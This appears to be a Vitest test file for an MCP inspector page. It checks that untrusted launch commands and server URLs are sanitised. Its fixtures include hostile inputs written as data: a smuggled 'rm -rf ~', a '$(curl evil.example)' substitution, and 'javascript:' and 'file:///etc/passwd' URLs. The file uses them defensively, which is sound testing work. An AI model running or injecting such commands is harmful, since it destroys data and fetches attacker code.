import { describe, expect, it } from 'vitest';
import { launchCommand, metaSource, startCommand } from '../../../app/state/page-facts';
import { serverOf } from '../../../src/index';

// What the page shows as a command line comes from a meta; whatever it holds, the page writes only a plain
// command, and a record's server is never more than an http(s) origin and path.
describe('the launch a page was told, given garbage', () => {
  it.each([
    ['a megabyte of letters', 'a'.repeat(1_000_000)],
    ['81 characters', `npx ${'a'.repeat(77)}`],
    ['a NUL', 'mcp-shape-inspector\u0000'],
    ['a newline', 'mcp-shape-inspector\nrm -rf ~'],
    ['shell syntax', 'mcp-shape-inspector $(curl evil.example)'],
    ['quotes', `mcp-shape-inspector "x"`],
    ['an empty string', ''],
    ['double spaces', 'npx  mcp-shape-inspector'],
  ])('%s: the repository command instead', (_, content) => {
    const doc = metaSource({ 'mcp-inspector-launch': content });
    expect(launchCommand(doc)).toBe('npm start --');
    expect(startCommand(doc)).toBe('npm start');
  });

  it('keeps a plain command of 80 characters', () => {
    const launch = `npx ${'a'.repeat(76)}`;
    expect(launchCommand(metaSource({ 'mcp-inspector-launch': launch }))).toBe(launch);
  });
});

describe("a record's server, given garbage", () => {
  it.each([
    ['a script URL', 'javascript:alert(1)'],
    ['a file URL', 'file:///etc/passwd'],
    ['a data URL', 'data:text/html,x'],
    ['a NUL', '\u0000'],
    ['a megabyte of letters', 'x'.repeat(1_000_000)],
  ])('%s: none', (_, url) => expect(serverOf(url)).toBeUndefined());

  it('keeps no credential however it is written', () => {
    expect(serverOf('https://a:b@host.example/mcp?token=t&x=1#k')).toBe('https://host.example/mcp');
    const long = `http://127.0.0.1:3000/${'p'.repeat(100_000)}`;
    expect(serverOf(`${long}?token=t`)).toBe(long);
  });
});
